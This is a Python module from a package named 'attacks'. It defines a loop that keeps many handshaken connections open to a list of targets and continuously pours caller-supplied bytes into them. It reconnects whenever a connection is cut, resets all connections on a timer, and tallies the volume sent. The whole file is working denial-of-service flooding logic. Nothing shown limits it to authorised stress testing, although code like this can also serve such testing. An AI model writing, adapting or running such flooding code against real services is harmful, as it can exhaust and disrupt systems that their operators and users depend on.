"""Pours bytes of one's own making into connections whose handshake is complete."""

from collections.abc import Callable
from math import inf
from time import monotonic, sleep

from attacks.arms import HELLO, RENEW_S, Arms
from attacks.curve import CurveClient


def pour(arms: Arms, next_bytes: Callable[[CurveClient], bytes], life_s: float = inf) -> None:
    """Send bytes over all connections, what is left of the last ones first; make those anew that are ended.

    Args:
        arms: see Arms.
        next_bytes: returns what is sent next.
        life_s: after so many seconds all connections are reset.
    """
    clients: dict[int, CurveClient] = {}
    unsent: dict[int, bytes] = {}
    reset_at = monotonic() + life_s
    while arms.goes_on():
        if monotonic() >= reset_at:
            reset_at += life_s
            arms.sent["resets"] += len(clients)
            for client in clients.values():
                client.reset()
            clients.clear()
        for number in range(arms.plan.connections):
            try:
                if number not in clients:
                    client = clients[number] = CurveClient(arms.identity, arms.targets[number % len(arms.targets)])
                    unsent[number] = client.message(HELLO)
                    client.socket.setblocking(False)
                data = unsent[number] or next_bytes(clients[number])
                unsent[number] = data
                sent = clients[number].socket.send(data)
                unsent[number] = data[sent:]
                arms.sent["kib"] += sent // 1024
            except BlockingIOError:
                sleep(0.001)
            except OSError:
                arms.sent["cut"] += 1
                if ended := clients.pop(number, None):
                    ended.socket.close()
                sleep(RENEW_S)
